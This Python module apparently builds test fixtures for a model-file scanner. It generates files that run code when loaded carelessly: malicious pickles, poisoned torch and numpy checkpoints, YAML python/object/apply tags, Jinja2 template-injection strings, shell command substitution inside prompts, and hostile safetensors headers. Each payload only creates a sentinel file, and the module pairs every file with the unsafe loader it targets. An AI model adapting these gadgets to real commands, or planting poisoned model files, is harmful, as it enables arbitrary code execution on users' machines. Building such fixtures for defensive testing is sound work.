"""Files that run code when a careless reader opens them; all that they do is make one file.

`made(sentinel)` gives each by its name, with the careless reader that it is meant for, in `RAW`.
"""

# ruff: noqa: S301, S307, S602  # it is what careless readers do

import gzip
import io
import json
import os
import pickle
import pickletools
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from pathlib import Path
from typing import NamedTuple

import jinja2
import numpy as np
import torch
import yaml


class Payload(NamedTuple):
    content: bytes
    raw: str
    """The reader that would run it."""


class Call:
    """Pickled as a call."""

    def __init__(self, function, *words, state=None):
        self.function, self.words, self.state = function, words, state

    def __reduce__(self):
        return (self.function, self.words, *([self.state] if self.state is not None else []))


def _pickles(sentinel):
    """Ways to run something from a pickle, each by another part of it."""
    touch, code = f"touch {sentinel}", f"open({str(sentinel)!r}, 'w').close()"
    found = {
        f"os.system, protocol {number}": pickle.dumps(Call(os.system, touch), number)
        for number in range(6)
    }
    calls = {
        "subprocess": Call(subprocess.getoutput, touch),
        "subprocess, a list": Call(subprocess.check_call, ["touch", str(sentinel)]),
        "exec": Call(exec, code),
        "eval": Call(eval, code),
        "open": Call(open, str(sentinel), "w"),
        "io": Call(io.FileIO, str(sentinel), "w"),
        "os.mkdir": Call(os.mkdir, str(sentinel)),
        "os.mknod": Call(os.mknod, str(sentinel)),
        "os.symlink": Call(os.symlink, "/etc/passwd", str(sentinel)),
        "pathlib": Call(Path.touch, sentinel),
        "map": Call(list, Call(map, os.system, [touch])),
        "in a list": [1, [2, {"a": Call(os.system, touch)}]],
        "as a key": {Call(os.system, touch): 1},
        "among weights": OrderedDict(weight=torch.zeros(2), bias=Call(os.system, touch)),
    }
    found |= {name: pickle.dumps(value) for name, value in calls.items()}
    by_hand = {
        "a global by its name": f"cposix\nsystem\n(V{touch}\ntR.",
        "an instance": f"(V{touch}\niposix\nsystem\n.",
        "an object": f"(cposix\nsystem\nV{touch}\no.",
        "after a good one": f"N0cposix\nsystem\n(V{touch}\ntR.",
        "an attribute": f"cbuiltins\ngetattr\n(cposixpath\nos\nVsystem\ntR(V{touch}\ntR.",
        "of numpy's": f"cnumpy.testing._private.utils\nrunstring\n(V{code}\n}}tR.",
        "of timeit's": f"ctimeit\ntimeit\n(V{code}\nVpass\ntR.",
        "of a module's own builtins": f"cnumpy\n__builtins__\n0cbuiltins\nexec\n(V{code}\ntR.",
    }
    found |= {name: text.encode() for name, text in by_hand.items()}
    for content in found.values():
        list(pickletools.genops(content))  # each is whole
    return found


def _torch_zip(content):
    """As torch.save writes it today, with another pickle in it."""
    out, plain = io.BytesIO(), io.BytesIO()
    torch.save({"weight": torch.zeros(2)}, plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            hostile = name.endswith("data.pkl")
            target.writestr(name, content if hostile else source.read(name))
    return out.getvalue()


def _torch_old(content):
    """As it was before torch 1.6: five pickles in a row."""
    plain = io.BytesIO()
    torch.save({"weight": torch.zeros(2)}, plain, _use_new_zipfile_serialization=False)
    text, stream, ends = plain.getvalue(), io.BytesIO(plain.getvalue()), []
    for _ in range(3):
        pickle.load(stream)
        ends.append(stream.tell())
    return text[: ends[2]] + content + text[ends[2] :]


def _torch_tar(content):
    """As it was before torch 0.1: a tar of pickles."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name in ("storages", "tensors", "pickle"):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return out.getvalue()


def _npy(content):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content


def _zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, content in members.items():
            target.writestr(name, content)
    return out.getvalue()


def _safetensors(header, body=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + body


def _yaml(sentinel):
    touch, code = f"touch {sentinel}", f"open({str(sentinel)!r}, 'w').close()"
    texts = {
        "apply": f'!!python/object/apply:os.system ["{touch}"]',
        "apply with state": f"!!python/object/apply:os.system\nargs: ['{touch}']",
        "new": f'!!python/object/new:os.system ["{touch}"]',
        "subprocess": f"!!python/object/apply:subprocess.check_call [[touch, {sentinel}]]",
        "eval": f'!!python/object/apply:builtins.eval ["{code}"]',
        "exec": f'!!python/object/apply:builtins.exec ["{code}"]',
        "as a value": f'steps: 3\nname: !!python/object/apply:os.system ["{touch}"]',
        "as a key": f'? !!python/object/apply:os.system ["{touch}"]\n: 1',
        "in a list": f'a: [1, !!python/object/apply:os.system ["{touch}"]]',
        "by an anchor": f'a: &x !!python/object/apply:os.system ["{touch}"]\nb: *x',
        "by a tag's short name": (
            f'%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ["{touch}"]'
        ),
        "by a tag in full": (f'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["{touch}"]'),
        "in a second document": f'!!python/object/apply:os.system ["{touch}"]\n...\n',
        "as JSON": f'{{"a": !!python/object/apply:os.system ["{touch}"]}}',
    }
    return {f"yaml, {name}": Payload(text.encode(), "yaml") for name, text in texts.items()}


def _templates(sentinel):
    run = f"system('touch {sentinel}')"
    texts = {
        "cycler": f"{{{{ cycler.__init__.__globals__.os.{run} }}}}",
        "joiner": f"{{{{ joiner.__init__.__globals__.os.{run} }}}}",
        "namespace": f"{{{{ namespace.__init__.__globals__.os.{run} }}}}",
        "lipsum": f"{{{{ lipsum.__globals__.os.{run} }}}}",
        "builtins": (f"{{{{ lipsum.__globals__['__builtins__']['__import__']('os').{run} }}}}"),
        "a block": f"{{% set x = cycler.__init__.__globals__.os.{run} %}}",
        "after markup": f"<img src=x>{{{{ cycler.__init__.__globals__.os.{run} }}}}",
    }
    return {f"template, {name}": Payload(text.encode(), "template") for name, text in texts.items()}


def made(sentinel: Path) -> dict[str, Payload]:
    touch, code = f"touch {sentinel}", f"open({str(sentinel)!r}, 'w').close()"
    found = {f"pickle, {name}": Payload(one, "pickle") for name, one in _pickles(sentinel).items()}
    system = pickle.dumps(Call(os.system, touch), 2)
    plain = {"weight": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    found |= {
        "torch": Payload(_torch_zip(system), "torch"),
        "torch, exec": Payload(_torch_zip(pickle.dumps(Call(exec, code), 2)), "torch"),
        "torch, among weights": Payload(
            _torch_zip(pickle.dumps({"weight": [1], "x": Call(os.system, touch)}, 2)), "torch"
        ),
        "torch, before 1.6": Payload(_torch_old(system), "torch"),
        "torch, a tar": Payload(_torch_tar(system), "torch"),
        "numpy, an array": Payload(_npy(system), "numpy"),
        "numpy, an archive": Payload(_zipped({"weight.npy": _npy(system)}), "numpy"),
        "gzip": Payload(gzip.compress(system), "gzip"),
        "zlib": Payload(zlib.compress(system), "zlib"),
        "zip that runs": Payload(_zipped({"__main__.py": code}), "run"),
        "python": Payload(code.encode(), "run"),
        "python, of one expression": Payload(
            f"__import__('os').system({touch!r})".encode(), "eval"
        ),
        "json, of one expression": Payload(
            json.dumps({"prompt": f"__import__('os').system({touch!r})"}).encode(), "eval"
        ),
        "shell": Payload(f"#!/bin/sh\n{touch}\n".encode(), "shell"),
        "shell, in a prompt": Payload(f"a hand $({touch})\n".encode(), "shell"),
        "shell, in a caption": Payload(f"prompt\n`{touch}`\n".encode(), "shell"),
        "safetensors, a pickle as header": Payload(_safetensors(system), "header: pickle"),
        "safetensors, yaml as header": Payload(
            _safetensors(f'!!python/object/apply:os.system ["{touch}"]'.encode()), "header: yaml"
        ),
        "safetensors, an expression as header": Payload(
            _safetensors(f"__import__('os').system({touch!r})".encode()), "header: eval"
        ),
        "safetensors, a shape that is run": Payload(
            _safetensors({"weight": {"dtype": f"__import__('os').system({touch!r})",
                                     "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4),
            "header: eval",
        ),
        "safetensors, a pickle behind": Payload(
            _safetensors(plain, b"\0" * 4) + system, "behind: pickle"
        ),
    }  # fmt: skip
    return found | _yaml(sentinel) | _templates(sentinel)


def _header(content):
    (length,) = struct.unpack("<Q", content[:8])
    return content[8 : 8 + length]


def _run(content, folder):
    path = folder / "run.py"
    path.write_bytes(content)
    subprocess.run([sys.executable, path], capture_output=True)


def _eval(content, folder=None):
    """An expression, or whatever of a JSON text one would take for one."""
    text = content.decode()
    if text.startswith("{"):
        values = json.loads(text)
        text = values.get("prompt") or values["weight"]["dtype"]
    eval(text)


def _torch(content, folder):
    path = folder / "a.pt"  # of a tar torch wants a file
    path.write_bytes(content)
    torch.load(path, weights_only=False)


RAW = {
    "pickle": lambda content, folder: pickle.loads(content),
    "torch": _torch,
    "numpy": lambda content, folder: _every(np.load(io.BytesIO(content), allow_pickle=True)),
    "gzip": lambda content, folder: pickle.loads(gzip.decompress(content)),
    "zlib": lambda content, folder: pickle.loads(zlib.decompress(content)),
    "yaml": lambda content, folder: yaml.unsafe_load(content),
    "template": lambda content, folder: jinja2.Template(content.decode()).render(),
    "run": _run,
    "eval": _eval,
    "shell": lambda content, folder: subprocess.run(content, shell=True, capture_output=True),
    "header: pickle": lambda content, folder: pickle.loads(_header(content)),
    "header: yaml": lambda content, folder: yaml.unsafe_load(_header(content)),
    "header: eval": lambda content, folder: _eval(_header(content)),
    "behind: pickle": lambda content, folder: pickle.loads(
        content[8 + len(_header(content)) + 4 :]
    ),
}
"""Careless readers, by name: bytes and a folder for what they need in."""


def _every(found):
    return [found[name] for name in found] if hasattr(found, "files") else found
